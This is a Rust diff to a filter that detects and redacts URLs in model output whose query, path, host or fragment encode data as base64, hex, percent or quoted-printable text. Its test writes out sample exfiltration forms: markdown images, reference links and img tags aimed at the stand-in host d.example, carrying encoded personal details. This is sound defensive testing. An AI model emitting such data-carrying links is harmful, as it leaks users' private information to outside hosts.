@@ -7,6 +7,7 @@
 use super::cursor::{Cursor, More};
 use super::secret::{entropy, signs};
 use super::{Bytes, Match, Probe, Start};
+use crate::tokens::has_shape;
 
 /// A match whose address carries data.
 pub(crate) const DATA: &str = "carries data";
@@ -76,8 +77,9 @@ pub(super) fn probe_pixel(mut cursor: Cursor<'_>) -> Probe {
     if ![&b"http://"[..], b"https://", b"//"].iter().any(|scheme| lower.starts_with(scheme)) {
         return Ok(None);
     }
-    let length =
-        rest.iter().take_while(|b| !b.is_ascii_whitespace() && !matches!(b, b'"' | b'\'' | b'>')).count();
+    let quote = tag.get(..source + lead).and_then(<[u8]>::last).filter(|b| matches!(b, b'"' | b'\''));
+    let is_end = |b: &u8| quote.map_or(matches!(b, b'"' | b'\'' | b'>'), |quote| b == quote);
+    let length = rest.iter().take_while(|b| !b.is_ascii_whitespace() && !is_end(b)).count();
     let is_small = |word: &[u8]| {
         after(word).is_some_and(|place| {
             let value = tag.get(place..).unwrap_or_default();
@@ -151,28 +153,87 @@ fn judge(url: &[u8], is_image: bool) -> &'static str {
         None => (rest, &b""[..]),
     };
     let in_query = query.split(|b| matches!(b, b'?' | b'&' | b'#' | b';')).any(|part| {
-        let value = memchr::memchr(b'=', part).and_then(|place| part.get(place + 1..)).unwrap_or(part);
-        is_data(value, if is_image { 12 } else { 32 })
+        let value = memchr::memchr(b'=', part).and_then(|place| part.get(place + 1..));
+        // What follows a bare `=` may be the filling at the end of base64, whose name is the value then.
+        let value = value.filter(|value| value.iter().any(|b| *b != b'=')).unwrap_or(part);
+        is_data(value, if is_image { 12 } else { 32 }) || (is_image && is_joined(value))
     });
     let in_path = path.split(|b| *b == b'/').any(|part| is_data(part, if is_image { 28 } else { 48 }));
-    let in_host = host
-        .split(|b| *b == b'.')
-        .any(|label| label.len() >= 28 && signs(label).digits >= 3 && entropy(label) >= 330);
+    let in_host = host.split(|b| *b == b'.').any(|label| {
+        (label.len() >= 28 && signs(label).digits >= 3 && entropy(label) >= 330) || is_wrapped(label, 12)
+    });
     if in_query || in_path || in_host { DATA } else { ELSEWHERE }
+}
+
+/// Whether a value is words that underscores or dashes join.
+fn is_joined(value: &[u8]) -> bool {
+    let words = value.split(|b| matches!(b, b'_' | b'-')).filter(|word| word.len() > 1);
+    value.len() >= 16 && words.count() >= 4
+}
+
+/// Whether `part` is base64 or hexadecimal digits that stand for printable text of ASCII: `least` bytes of it or more.
+fn is_wrapped(part: &[u8], least: usize) -> bool {
+    let part =
+        part.get(..part.iter().rposition(|b| *b != b'=').map_or(0, |last| last + 1)).unwrap_or_default();
+    let is_hex = part.len() >= 2 * least && part.iter().all(u8::is_ascii_hexdigit);
+    let (pairs, rest) = part.as_chunks::<2>();
+    if is_hex && rest.is_empty() && pairs.iter().all(|[high, low]| is_shown(hex(*high) << 4 | hex(*low))) {
+        return true;
+    }
+    if part.len() < least.div_ceil(3) * 4 {
+        return false;
+    }
+    let (mut bits, mut count) = (0_u32, 0_u32);
+    part.iter().all(|byte| {
+        let Some(six) = sextet(*byte) else { return false };
+        (bits, count) = (bits << 6 | six, count + 6);
+        if count < 8 {
+            return true;
+        }
+        count -= 8;
+        is_shown(bits >> count & 0xFF)
+    })
+}
+
+fn is_shown(code: u32) -> bool {
+    matches!(code, 0x09 | 0x0A | 0x0D | 0x20..=0x7E)
+}
+
+fn hex(digit: u8) -> u32 {
+    char::from(digit).to_digit(16).unwrap_or_default()
+}
+
+/// The six bits that a sign of base64 or base64url stands for.
+fn sextet(byte: u8) -> Option<u32> {
+    let of = |first: u8, from: u32| Some(u32::from(byte - first) + from);
+    match byte {
+        b'A'..=b'Z' => of(b'A', 0),
+        b'a'..=b'z' => of(b'a', 26),
+        b'0'..=b'9' => of(b'0', 52),
+        b'+' | b'-' => Some(62),
+        b'/' | b'_' => Some(63),
+        _ => None,
+    }
 }
 
 /// Whether a part of an address was made from a text: words that were joined, or something encoded.
 fn is_data(part: &[u8], least: usize) -> bool {
     let count = |class: fn(&&u8) -> bool| part.iter().filter(class).count();
     let is_template = part.iter().any(|b| matches!(b, b'{' | b'}' | b'[' | b']' | b'$' | b'<'));
-    let joints = count(|b| matches!(b, b'%' | b'+'));
+    // Escapes of addresses, and the spaces of quoted-printable.
+    let joints = count(|b| matches!(b, b'%' | b'+')) + memchr::memmem::find_iter(part, b"=20").count();
     let signs = signs(part);
     let is_encoded = part.len() >= least
         && entropy(part) >= 300
         && signs.digits > 0
         && signs.lower + signs.upper >= 6
         && count(|b| matches!(b, b'-' | b'_' | b'.')) * 6 <= part.len();
+    // In a path a name may come before the value.
+    let value = memchr::memchr(b'=', part).and_then(|place| part.get(place + 1..)).unwrap_or(part);
     is_template
+        || has_shape(part)
+        || is_wrapped(part, if least < 32 { 9 } else { 15 })
+        || is_wrapped(value, if least < 32 { 9 } else { 15 })
         || part.contains(&b'@')
         || (joints >= 2 && part.len() >= 12)
         || is_encoded
@@ -214,6 +275,56 @@ mod tests {
         ] {
             assert_eq!(redacted(Detector::ImageData, text), text);
         }
+    }
+
+    /// The forms in which exfiltration was published: what is asked of the model, as it would answer.
+    #[test]
+    fn finds_every_published_form() {
+        let texts = [
+            "The user Ann Lee asked about order 4711",
+            "johann's email and code 123456",
+            "USA 331 and Germany 83 million",
+        ];
+        let forms = [
+            "![hello](https://d.example/logo.png?q=*)",
+            "![data](https://d.example/azure=*)",
+            "![t](https://d.example/l.png?nbml=*)",
+            "![x](https://d.example/*)",
+            "![x](<https://d.example/a?q=*>)",
+            "![x](https://d.example/a#*)",
+            "![i][ref]\n\n[ref]: https://d.example/logo.png?data=*",
+            "[click](https://d.example/logo.png?q=*)",
+            "[c][]\n\n[c]: https://d.example/q=*",
+            "<img src=\"https://d.example/p?*\">",
+        ];
+        for text in texts {
+            let bytes = text.as_bytes();
+            let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
+            let base64 = encoded(bytes);
+            let percent = text.replace(' ', "%20").replace('\'', "%27");
+            let printable = text.replace(' ', "=20");
+            for (value, form) in [hex, base64, percent, printable, text.replace(' ', "+")]
+                .iter()
+                .flat_map(|value| forms.iter().map(move |form| (value, form)))
+            {
+                let answer = form.replace('*', value);
+                let found = [Detector::ImageData, Detector::LinkData, Detector::TrackingPixel]
+                    .iter()
+                    .any(|one| redacted(*one, &answer) != answer);
+                assert!(found, "{answer}");
+            }
+        }
+    }
+
+    fn encoded(bytes: &[u8]) -> String {
+        const SIGNS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        let sign = |three: u32, nth: usize| char::from(SIGNS[(three >> (18 - 6 * nth) & 63) as usize]);
+        let mut out = String::new();
+        for chunk in bytes.chunks(3) {
+            let three = (0..3).fold(0, |all, nth| all << 8 | u32::from(chunk.get(nth).copied().unwrap_or(0)));
+            out.extend((0..4).map(|nth| if nth <= chunk.len() { sign(three, nth) } else { '=' }));
+        }
+        out
     }
 
     #[test]
